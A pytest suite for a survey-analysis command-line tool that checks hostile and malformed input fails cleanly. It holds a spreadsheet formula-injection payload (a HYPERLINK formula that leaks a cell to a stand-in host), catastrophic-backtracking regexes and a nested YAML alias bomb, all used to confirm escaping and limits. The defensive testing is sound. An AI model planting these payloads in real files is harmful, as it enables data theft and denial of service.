"""Awkward and hostile input through the CLI (issue #14): each case failed before its fix."""

import os
import shutil

import pandas as pd
import pytest

from survey_tools.cli import main

FORMULA = '=HYPERLINK("http://x/?"&A2,"klicka")'


def _err(capsys) -> str:
    err = capsys.readouterr().err.strip()
    assert err.startswith("error: ") and "Traceback" not in err
    return err


# --- 1. a first data row with one field more than the header ---------------------------

SHIFTED = "id,svar,vikt\n1,Bra, tycker jag,1\n2,Dåligt,1\n3,Okej,2\n"


@pytest.mark.parametrize("command", [
    ["validate"],
    ["mask", "--text-column", "svar", "--output", "{out}/masked.csv"],
    ["topics", "--text-column", "svar", "--embedding", "tfidf", "--output", "{out}/t"],
    ["topics", "--text-column", "svar", "--embedding", "tfidf", "--engine", "dask",
     "--output", "{out}/t"],
])
def test_extra_field_in_the_first_data_row_is_an_error(tmp_path, capsys, command):
    path = tmp_path / "svar.csv"
    path.write_text(SHIFTED, encoding="utf-8")
    args = [a.replace("{out}", str(tmp_path)) for a in command]
    assert main([args[0], str(path), *args[1:]]) == 2
    err = _err(capsys)
    assert str(path) in err and "row 2" in err and "4 fields" in err
    assert not (tmp_path / "masked.csv").exists() and not (tmp_path / "t").exists()


# --- 2. formula injection through column names ------------------------------------------

def _formula_survey(tmp_path):
    path = tmp_path / "svar.csv"
    frame = pd.DataFrame({FORMULA: ["a1", "a2", "a3", "a4", "a5", "a6"],
                          "@grupp": ["x", "x", "y", "y", "x", "y"],
                          "svar": ["budget saknas", "ingen budget", "lagen oklar",
                                   "oklar lag", "pengar saknas", "juridik oklar"]})
    frame.to_csv(path, index=False)
    return path


def _cells(path):
    """Every cell as text, header row included (CSV or the first sheet of a workbook)."""
    if path.suffix == ".xlsx":
        from openpyxl import load_workbook

        sheet = load_workbook(path).worksheets[0]
        return [(c.value, c.data_type) for row in sheet.iter_rows() for c in row]
    import csv

    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [(v, "s") for row in csv.reader(handle) for v in row]


def _is_number(value) -> bool:
    try:
        float(value)
    except (TypeError, ValueError):
        return False
    return True


def _no_live_formula(path):
    for value, kind in _cells(path):
        assert kind != "f", (path, value)
        if isinstance(value, str) and not _is_number(value):  # "-0.5" is a number
            assert not value.lstrip(" ").startswith(("=", "+", "-", "@")), (path, value)


def test_formula_column_names_are_escaped_in_every_export(tmp_path, capsys):
    path = _formula_survey(tmp_path)
    out = tmp_path / "out"
    assert main(["topics", str(path), "--text-column", "svar", "--id-column", FORMULA,
                 "--group-column", "@grupp", "--embedding", "tfidf", "--n-topics", "2",
                 "--output", str(out / "t"), "--no-progress"]) == 0
    assert main(["mask", str(path), "--text-column", "svar", "--id-column", FORMULA,
                 "--output", str(out / "masked.xlsx")]) == 0
    assert main(["mask", str(path), "--text-column", "svar", "--id-column", FORMULA,
                 "--output", str(out / "masked.csv")]) == 0
    assert main(["search", str(path), "budget", "--text-column", "svar", "--id-column",
                 FORMULA, "--show", "@grupp", "--embedding", "tfidf",
                 "--output", str(out / "hits.xlsx")]) == 0
    assert main(["search", str(path), "budget", "--text-column", "svar", "--id-column",
                 FORMULA, "--show", "@grupp", "--embedding", "tfidf",
                 "--output", str(out / "hits.csv")]) == 0
    written = [p for p in out.rglob("*") if p.suffix in (".csv", ".xlsx")]
    assert len(written) >= 7
    for p in written:
        _no_live_formula(p)
    header = pd.read_csv(out / "t" / "assignments.csv", nrows=0).columns[0]
    assert header == "'" + FORMULA


def test_formula_column_names_are_escaped_in_coded_exports(tmp_path, root):
    path = _formula_survey(tmp_path)
    out = tmp_path / "c"
    assert main(["categorize", str(path), "--codebook",
                 str(root / "data" / "codebook_obstacles.yaml"), "--text-column", "svar",
                 "--id-column", FORMULA, "--method", "keywords", "--format", "xlsx",
                 "--output", str(out)]) == 0
    for name in ("coded.csv", "coded.xlsx"):
        _no_live_formula(out / name)


# --- 3. mask must not overwrite its input ------------------------------------------------

@pytest.mark.parametrize("name", ["sample_survey.csv", "sample_survey.xlsx"])
def test_mask_refuses_to_overwrite_its_input(sample_copy, capsys, name, monkeypatch):
    path = sample_copy / name
    before = path.read_bytes()
    assert main(["mask", str(path), "--text-column", "q_obstacles", "--output",
                 str(path)]) == 2
    assert "is the input" in _err(capsys)
    monkeypatch.chdir(sample_copy)  # the same file by another name
    assert main(["mask", str(path), "--text-column", "q_obstacles", "--output",
                 f"./{name}"]) == 2
    link = sample_copy / f"link{path.suffix}"  # ... or a hard link to it
    os.link(path, link)
    assert main(["mask", str(path), "--text-column", "q_obstacles", "--output",
                 str(link)]) == 2
    assert path.read_bytes() == before


# --- 6. Excel's "sep=;" first line -------------------------------------------------------

@pytest.mark.parametrize("engine", ["pandas", "dask"])
def test_excel_sep_line_is_honoured(tmp_path, capsys, engine):
    path = tmp_path / "svar.csv"
    rows = "".join(f"{i};{t}\r\n" for i, t in enumerate(
        ["Bra, tycker jag", "Dåligt", "Budget saknas", "Ingen budget", "Lagen oklar",
         "Oklar lag"], start=1))
    path.write_bytes(("sep=;\r\nid;svar\r\n" + rows).encode("cp1252"))
    out = tmp_path / "t"
    assert main(["topics", str(path), "--text-column", "svar", "--embedding", "tfidf",
                 "--n-topics", "2", "--engine", engine, "--output", str(out),
                 "--no-progress"]) == 0
    assignments = pd.read_csv(out / "assignments.csv", dtype=str)
    assert assignments["id"].tolist() == ["1", "2", "3", "4", "5", "6"]
    assert main(["validate", str(path)]) == 0
    assert "Rows: 6" in capsys.readouterr().out


# --- 8. duplicate column names with --engine dask ----------------------------------------

def test_dask_engine_refuses_duplicate_column_names(tmp_path, capsys):
    path = tmp_path / "svar.csv"
    path.write_text("id,svar,svar\n1,a,b\n2,c,d\n", encoding="utf-8")
    assert main(["topics", str(path), "--text-column", "svar", "--embedding", "tfidf",
                 "--engine", "dask", "--output", str(tmp_path / "t")]) == 2
    assert "more than once" in _err(capsys)


# --- 4., 5. and the low items on codebooks ------------------------------------------------

def _book(tmp_path, codes: str):
    path = tmp_path / "book.yaml"
    path.write_text("name: Hinder\ncodes:\n" + codes, encoding="utf-8")
    return path


def _categorize(path_csv, book, tmp_path):
    return main(["categorize", str(path_csv), "--codebook", str(book), "--text-column",
                 "svar", "--method", "keywords", "--format", "xlsx", "sav",
                 "--output", str(tmp_path / "o")])


@pytest.fixture
def answers_csv(tmp_path):
    path = tmp_path / "svar.csv"
    path.write_text("id,svar\n1,Budget saknas\n2,aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab\n"
                    "3,GDPR är oklart\n", encoding="utf-8")
    return path


def test_a_code_defined_twice_names_both_lines(tmp_path, capsys, answers_csv):
    book = _book(tmp_path, "  budget:\n    label: Budget\n    description: Pengar\n"
                           "  law:\n    label: Juridik\n    description: Lagar\n"
                           "  budget:\n    label: Pengar\n    description: Ekonomi\n")
    assert _categorize(answers_csv, book, tmp_path) == 2
    err = _err(capsys)
    assert "line 9, key 'budget': 'budget' occurs twice in the same section (lines 3 and 9)" \
        in err and str(book) in err
    assert not (tmp_path / "o").exists()


def test_a_catastrophic_pattern_does_not_hang(tmp_path, answers_csv):
    import subprocess
    import sys

    # (a+)+$ backtracks exponentially with Python's re; the regex package copes
    book = _book(tmp_path, "  repeat:\n    label: Upprepning\n    description: a\n"
                           "    patterns: ['(a+)+$']\n")
    run = subprocess.run([sys.executable, "-m", "survey_tools.cli", "categorize",
                          str(answers_csv), "--codebook", str(book), "--text-column", "svar",
                          "--method", "keywords", "--output", str(tmp_path / "o")],
                         capture_output=True, text=True, timeout=60)
    assert run.returncode == 0, run.stderr
    coded = pd.read_csv(tmp_path / "o" / "coded.csv")
    assert coded["repeat"].tolist() == [0, 0, 0]  # the answer ends in b


def test_a_pattern_that_takes_too_long_is_named(tmp_path, capsys, answers_csv):
    book = _book(tmp_path, "  repeat:\n    label: Upprepning\n    description: a\n"
                           "    patterns: ['budget', '(a|aa)+$']\n")
    assert _categorize(answers_csv, book, tmp_path) == 2
    err = _err(capsys)
    assert "code 'repeat': pattern '(a|aa)+$' took more than" in err and str(book) in err


def test_inline_flag_in_a_pattern_and_long_code_ids(tmp_path, capsys, answers_csv):
    book = _book(tmp_path, "  law:\n    label: Juridik\n    description: Lagar\n"
                           "    patterns: ['x|(?i)gdpr']\n")
    assert _categorize(answers_csv, book, tmp_path) == 0
    assert pd.read_csv(tmp_path / "o" / "coded.csv")["law"].tolist() == [0, 0, 1]
    long_id = "a" * 65
    book = _book(tmp_path, f"  {long_id}:\n    label: Lång\n    description: Lång\n")
    assert _categorize(answers_csv, book, tmp_path / "x") == 2
    assert "more than 64" in _err(capsys)
    assert not (tmp_path / "x").exists()


# --- 7. Parquet with list, record and binary columns -------------------------------------

def test_parquet_columns_of_lists_or_bytes_are_left_out_with_a_note(tmp_path, capsys):
    path = tmp_path / "svar.parquet"
    pd.DataFrame({
        "id": [1, 2, 3, 4, 5, 6],
        "svar": ["budget saknas", "ingen budget", "lagen oklar", "oklar lag",
                 "pengar saknas", "juridik oklar"],
        "taggar": [["a", "b"], [], ["c"], ["a"], [], ["b"]],
        "post": [{"x": 1}] * 6,
        "blob": [b"\xff\x00", b"x", b"\x80", b"a", b"b", b"c"],
        "text_bytes": [t.encode() for t in "åäöabc"],
    }).to_parquet(path)
    assert main(["validate", str(path)]) == 0
    out = capsys.readouterr().out
    for name in ("taggar", "post", "blob"):
        assert f"column '{name}'" in out and "left out" in out
    assert "text_bytes" in out and "Rows: 6" in out
    assert main(["topics", str(path), "--text-column", "svar", "--embedding", "tfidf",
                 "--n-topics", "2", "--output", str(tmp_path / "t"), "--no-progress"]) == 0
    assert main(["mask", str(path), "--text-column", "svar", "--output",
                 str(tmp_path / "m.csv")]) == 0
    assert "left out" in capsys.readouterr().out
    masked = pd.read_csv(tmp_path / "m.csv")
    assert masked["text_bytes"].tolist() == list("åäöabc") and len(masked) == 6


# --- 9. CSV exports that spreadsheets open as UTF-8 ----------------------------------------

@pytest.mark.parametrize("engine", ["pandas", "dask"])
def test_csv_exports_carry_one_utf8_byte_order_mark(tmp_path, engine):
    path = tmp_path / "svar.csv"
    answers = ["Svårt att få budget", "Ingen budget på året", "Lagen är oklar",
               "Oklart vad lagen säger", "Pengar saknas här", "Juridiken är svår"] * 3
    pd.DataFrame({"id": range(1, 19), "grupp": ["Kommun", "Region"] * 9,
                  "svar": answers}).to_csv(path, index=False)
    out = tmp_path / "t"
    assert main(["topics", str(path), "--text-column", "svar", "--group-column", "grupp",
                 "--embedding", "tfidf", "--n-topics", "2", "--engine", engine,
                 "--partition-size", "200", "--output", str(out), "--no-progress"]) == 0
    for name in ("assignments.csv", "topics.csv", "topic_shares.csv"):
        raw = (out / name).read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1, name
    back = pd.read_csv(out / "assignments.csv", dtype=str)
    assert back.columns[0] == "id" and back["id"].tolist() == [str(i) for i in range(1, 19)]


# --- low: options, paths, run.json, ids, sheets, timestamps, masking, Ctrl-C --------------

@pytest.mark.parametrize("option, value, problem", [
    ("--seed", "-1", "--seed: must be from 0 to 4294967295"),
    ("--seed", str(2**32), "--seed: must be from 0 to 4294967295"),
    ("--fit-size", "0", "--fit-size: must be at least 1"),
    ("--fit-size", "-5", "--fit-size: must be at least 1"),
    ("--n-topics", "0", "--n-topics must be at least 1, not 0"),
    ("--n-topics", "10000", "10,000 topics were asked for, but there are only 1,108"),
    ("--text-column", "q_takeaway", "--text-column was given twice"),
])
def test_bad_topics_options_exit_2_with_one_line(sample_csv, tmp_path, capsys, option, value,
                                                 problem):
    code = main(["topics", str(sample_csv), "--text-column", "q_obstacles", "--embedding",
                 "tfidf", option, value, "--output", str(tmp_path / "t"), "--no-progress"])
    assert code == 2
    err = _err(capsys)
    assert problem in err and "\n" not in err
    assert "whole number" not in err


def test_search_top_0_and_a_column_given_twice(sample_csv, capsys, tmp_path):
    assert main(["search", str(sample_csv), "budget", "--text-column", "q_obstacles", "--top",
                 "0"]) == 2
    assert "--top: must be at least 1" in _err(capsys)
    assert main(["search", str(sample_csv), "budget", "--text-column", "q_obstacles",
                 "--text-column", "q_obstacles", "--embedding", "tfidf", "--top", "50",
                 "--output", str(tmp_path / "hits.csv")]) == 0
    hits = pd.read_csv(tmp_path / "hits.csv", dtype=str)
    assert not hits["respondent_id"].duplicated().any()


@pytest.mark.parametrize("where", ["file", "unwritable"])
def test_an_output_that_cannot_be_a_folder_exits_2(sample_csv, tmp_path, capsys, where):
    if where == "file":
        target = tmp_path / "taken"
        target.write_text("x")
    else:
        if os.geteuid() == 0:
            target = __import__("pathlib").Path("/sys/survey_tools_out")  # root writes all else
        else:
            locked = tmp_path / "locked"
            locked.mkdir(mode=0o500)
            target = locked / "out"
    code = main(["topics", str(sample_csv), "--text-column", "q_obstacles", "--embedding",
                 "tfidf", "--output", str(target), "--no-progress"])
    assert code == 2
    err = _err(capsys)
    assert str(target) in err and "folder you can write to" in err


@pytest.mark.parametrize("command", [
    ["topics", "--text-column", "q_obstacles", "--embedding", "tfidf", "--no-progress",
     "--output", "{out}"],
    ["categorize", "--text-column", "q_obstacles", "--codebook", "{book}", "--embedding",
     "tfidf", "--output", "{out}"],
    ["mask", "--text-column", "q_obstacles", "--output", "{out}"],
    ["search", "budget", "--text-column", "q_obstacles", "--embedding", "tfidf",
     "--output", "{out}"],
])
def test_the_output_is_checked_before_the_survey_is_read(sample_csv, root, tmp_path, capsys,
                                                        monkeypatch, command):
    """An output that cannot be written stops a command before its work, not after it."""
    import survey_tools.io.survey

    def read_survey(*args, **kwargs):
        raise AssertionError("the survey was read before the output was checked")

    monkeypatch.setattr(survey_tools.io.survey, "read_survey", read_survey)
    taken, folder = tmp_path / "taken", tmp_path / "folder"
    taken.write_text("x")
    folder.mkdir()
    # a file where the output folder goes, or a file in whose place its folder would go;
    # for a file output: a folder where the file goes, or a file where its folder goes
    targets = ((taken, taken / "below") if command[0] in ("topics", "categorize")
               else (folder, taken / "hits.csv"))
    for target in targets:
        args = [a.format(out=target, book=root / "data" / "codebook_obstacles.yaml")
                for a in command]
        assert main([args[0], str(sample_csv), *args[1:]]) == 2, target
        assert str(target) in _err(capsys)
    assert taken.read_text() == "x" and sorted(tmp_path.iterdir()) == [folder, taken]
    assert not any(folder.iterdir())


def test_run_json_is_valid_when_every_answer_is_a_non_answer(tmp_path, capsys):
    import json

    path = tmp_path / "svar.csv"
    path.write_text("id,svar\n1,vet ej\n2,\n3,-\n4,Vet inte\n", encoding="utf-8")
    assert main(["topics", str(path), "--text-column", "svar", "--embedding", "tfidf",
                 "--output", str(tmp_path / "t"), "--no-progress"]) == 0
    text = (tmp_path / "t" / "run.json").read_text(encoding="utf-8")
    run = json.loads(text, parse_constant=lambda c: pytest.fail(f"{c} in run.json"))
    assert run["outlier_share_percent"] is None
    assert any("every row is empty or a non-answer" in n for n in run["notes"])
    assert not any("all are outliers" in n for n in run["notes"])


def test_ids_that_look_like_signed_numbers_stay_matchable(tmp_path, root):
    import pyreadstat

    path = tmp_path / "svar.csv"
    path.write_text("id,svar\n-1,Budget saknas\n+2,GDPR oklart\n=3,Ledningen\n",
                    encoding="utf-8")
    out = tmp_path / "o"
    assert main(["categorize", str(path), "--codebook",
                 str(root / "data" / "codebook_obstacles.yaml"), "--text-column", "svar",
                 "--method", "keywords", "--format", "sav", "--output", str(out)]) == 0
    assert pd.read_csv(out / "coded.csv", dtype=str)["id"].tolist() == ["-1", "+2", "'=3"]
    assert pyreadstat.read_sav(out / "coded.sav")[0]["id"].tolist() == ["-1", "+2", "=3"]


def test_a_sheet_named_like_a_number_wins_and_encrypted_files_are_named(tmp_path, capsys):
    path = tmp_path / "svar.xlsx"
    with pd.ExcelWriter(path) as writer:
        for name, n in (("Info", 1), ("1", 2), ("2025", 3)):
            pd.DataFrame({"id": range(1, n + 1), "svar": list("abc")[:n]}).to_excel(
                writer, sheet_name=name, index=False)
    assert main(["validate", str(path), "--sheet", "2025"]) == 0
    assert "Rows: 3" in capsys.readouterr().out
    assert main(["validate", str(path), "--sheet", "1"]) == 0
    assert "Rows: 2" in capsys.readouterr().out  # the sheet named "1", not the second
    encrypted = tmp_path / "låst.xlsx"  # what Excel writes for a password-protected book
    encrypted.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    assert main(["validate", str(encrypted)]) == 2
    assert "password-protected" in _err(capsys)


def test_the_same_run_twice_gives_identical_xlsx_and_sav(tmp_path, root, monkeypatch):
    import time as time_module

    path = tmp_path / "svar.csv"
    path.write_text("id,svar\n1,Budget saknas\n2,GDPR oklart\n", encoding="utf-8")
    outputs = []
    for run in range(2):
        if run:  # another second and another day on the clock
            later = time_module.time() + 86400 + 61
            monkeypatch.setattr(time_module, "time", lambda later=later: later)
            time_module.sleep(1.1)
        out = tmp_path / f"o{run}"
        assert main(["categorize", str(path), "--codebook",
                     str(root / "data" / "codebook_obstacles.yaml"), "--text-column", "svar",
                     "--method", "keywords", "--format", "xlsx", "sav",
                     "--output", str(out)]) == 0
        assert main(["mask", str(path), "--text-column", "svar", "--output",
                     str(out / "masked.xlsx")]) == 0
        outputs.append(out)
    for name in ("coded.csv", "coded.xlsx", "coded.sav", "masked.xlsx"):
        assert (outputs[0] / name).read_bytes() == (outputs[1] / name).read_bytes(), name


def test_time_ranges_are_not_masked_as_phone_numbers(tmp_path):
    path = tmp_path / "svar.csv"
    path.write_text("id,svar\n1,Telefontiden är 08.00-10.00 på vardagar.\n"
                    "2,Ring 070-123 45 67 efter 16:30\n", encoding="utf-8")
    assert main(["mask", str(path), "--text-column", "svar", "--output",
                 str(tmp_path / "m.csv")]) == 0
    masked = pd.read_csv(tmp_path / "m.csv")["svar"].tolist()
    assert masked == ["Telefontiden är 08.00-10.00 på vardagar.",
                      "Ring [PHONE] efter 16:30"]


def test_ctrl_c_while_writing_leaves_the_previous_set_untouched(tmp_path, root, capsys,
                                                               monkeypatch):
    import survey_tools.coding.coded_files as exports

    path = tmp_path / "svar.csv"
    path.write_text("id,svar\n1,Budget saknas\n2,GDPR oklart\n", encoding="utf-8")
    out = tmp_path / "o"
    args = ["categorize", str(path), "--codebook", str(root / "data" / "codebook_obstacles.yaml"),
            "--text-column", "svar", "--method", "keywords", "--format", "csv", "xlsx", "sav",
            "--output", str(out)]
    assert main(args) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    path.write_text("id,svar\n1,Ledningen saknas\n2,Inga pengar\n", encoding="utf-8")
    real = exports.write_coded

    def interrupted(table, target, **kw):
        if str(target).endswith(".sav"):
            raise KeyboardInterrupt
        return real(table, target, **kw)

    monkeypatch.setattr(exports, "write_coded", interrupted)
    assert main(args) == 130
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_report_never_replaces_an_analysts_own_folders(tmp_path, capsys, monkeypatch):
    """Issue #28, item 4: `report --output DIR` left the analyst's notebook, table, logo."""
    from survey_tools.report import build as report

    out = tmp_path / "analysis"
    for part, name in [("notebooks", "mine.ipynb"), ("tables", "mine.csv"),
                       ("figures", "logo.png")]:
        (out / part).mkdir(parents=True)
        (out / part / name).write_text("the analyst's own")
    ran = []
    monkeypatch.setattr(report, "_execute", lambda *a, **k: ran.append(a))
    code = main(["report", "--output", str(out), "--no-progress"])
    assert code == 2 and not ran
    err = _err(capsys)
    assert str(out) in err and "notebooks, figures, tables" in err and "new or empty" in err
    assert all((out / p / n).read_text() == "the analyst's own" for p, n in
               [("notebooks", "mine.ipynb"), ("tables", "mine.csv"), ("figures", "logo.png")])


def test_a_report_folder_is_updated_in_place_and_stale_staging_is_removed(tmp_path):
    """A folder a report wrote before is marked and reused; a killed run's staging goes."""
    from survey_tools.report import build as report

    out = tmp_path / "rapport"
    out.mkdir()
    (out / report.REPORT_MARK).write_text("")
    (out / "tables").mkdir()
    stale = out / ".staging-killed"
    (stale / "tables").mkdir(parents=True)
    (stale / "tables" / "unscanned.csv").write_text("Karin Lindberg, 070-123 45 67")
    report._check_output(out)  # no error: its own report
    report._clean_stale_staging(out)
    assert not stale.exists()


@pytest.mark.parametrize("command", [
    ["topics", "{folder}/assignments.csv", "--text-column", "q_obstacles", "--embedding",
     "tfidf", "--output", "{folder}"],
    ["topics", "{folder}/assignments.csv", "--text-column", "q_obstacles", "--engine", "dask",
     "--output", "{folder}"],
    ["categorize", "{folder}/coded.csv", "--codebook", "{codebook}", "--text-column",
     "q_obstacles", "--output", "{folder}"],
    ["search", "{folder}/assignments.csv", "budget", "--text-column", "q_obstacles",
     "--embedding", "tfidf", "--output", "{folder}/assignments.csv"],
    ["init", "{folder}/assignments.csv", "--output", "{folder}/assignments.csv", "--force"],
])
def test_no_command_overwrites_its_input(tmp_path, capsys, root, command):
    """Issue #28, item 8: every command refuses an output that is its input file."""
    folder = tmp_path / "x"
    folder.mkdir()
    for name in ("assignments.csv", "coded.csv"):  # a previous output, now an input
        shutil.copy(root / "data" / "sample_survey.csv", folder / name)
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    argv = [a.format(folder=folder, codebook=root / "data" / "codebook_obstacles.yaml")
            for a in command]
    assert main(argv) == 2
    err = _err(capsys)
    assert "is the input file" in err and "another" in err
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before


def test_a_yaml_alias_bomb_in_the_configuration_is_refused(tmp_path, capsys, root):
    """Issue #28, item 6: nested aliases used to hang the report (8.7 GB, killed)."""
    shutil.copy(root / "data" / "sample_survey.csv", tmp_path / "s.csv")
    lines = ["survey: s.csv", "a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    (tmp_path / "survey.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert main(["report", "--config", str(tmp_path / "survey.yaml"), "--output",
                 str(tmp_path / "out"), "--no-progress"]) == 2
    err = _err(capsys)
    assert "survey.yaml" in err and "alias" in err and "line 3" in err
    assert not (tmp_path / "out").exists()


def test_a_broken_codebook_stops_the_report_before_any_notebook(tmp_path, capsys, root,
                                                                 monkeypatch):
    """Issue #28, item 21: it was found after two notebooks had run (exit 1)."""
    from survey_tools.report import build as report

    shutil.copy(root / "data" / "sample_survey.csv", tmp_path / "s.csv")
    (tmp_path / "book.yaml").write_text("codes:\n  - id: legal\n    label: [unclosed\n",
                                        encoding="utf-8")
    (tmp_path / "survey.yaml").write_text(
        "survey: s.csv\nid: respondent_id\nopen_questions:\n  - column: q_obstacles\n"
        "    codebook: book.yaml\n", encoding="utf-8")
    ran = []
    monkeypatch.setattr(report, "_execute", lambda *a, **k: ran.append(a))
    assert main(["report", "--config", str(tmp_path / "survey.yaml"), "--output",
                 str(tmp_path / "out"), "--no-progress"]) == 2
    assert not ran
    assert "book.yaml" in _err(capsys)


@pytest.mark.parametrize("bad", [float("inf"), 1e308, float("nan")])
def test_infinite_absurd_or_missing_weights_are_refused_naming_rows(tmp_path, capsys, root,
                                                                   monkeypatch, bad):
    """Issue #28, item 22: they gave 0 % / NaN shares with only RuntimeWarnings."""
    from survey_tools.report import build as report

    data = pd.read_csv(root / "data" / "sample_survey.csv", dtype={"respondent_id": str})
    data["weight"] = data["weight"].astype(float)
    data.loc[3, "weight"] = bad
    data.to_parquet(tmp_path / "s.parquet", index=False)
    (tmp_path / "survey.yaml").write_text(
        "survey: s.parquet\nid: respondent_id\nweight: weight\n", encoding="utf-8")
    monkeypatch.setattr(report, "_execute", lambda *a, **k: None)
    assert main(["report", "--config", str(tmp_path / "survey.yaml"), "--output",
                 str(tmp_path / "out"), "--no-progress"]) == 2
    err = _err(capsys)
    assert "absurd weights" in err and data.loc[3, "respondent_id"] in err


def test_patterns_have_a_total_time_budget_and_errors_show_no_answer(tmp_path, capsys,
                                                                     answers_csv, monkeypatch):
    """Issue #28, item 24: each answer just under the 1 s limit made 40 answers take 54 s;
    the message printed 40 characters of an answer."""
    from survey_tools.coding import codebook

    monkeypatch.setattr(codebook, "PATTERN_BUDGET", 0.0)
    monkeypatch.setattr(codebook, "PATTERN_SLOW", 0.0)
    book = _book(tmp_path, "  repeat:\n    label: Upprepning\n    description: a\n"
                           "    patterns: ['budget']\n")
    assert _categorize(answers_csv, book, tmp_path) == 2
    err = _err(capsys)
    assert "code 'repeat': its keywords and patterns took more than 0 s in total" in err
    answers = pd.read_csv(answers_csv, dtype=str)["svar"].dropna()
    assert not any(a[:20] in err for a in answers)
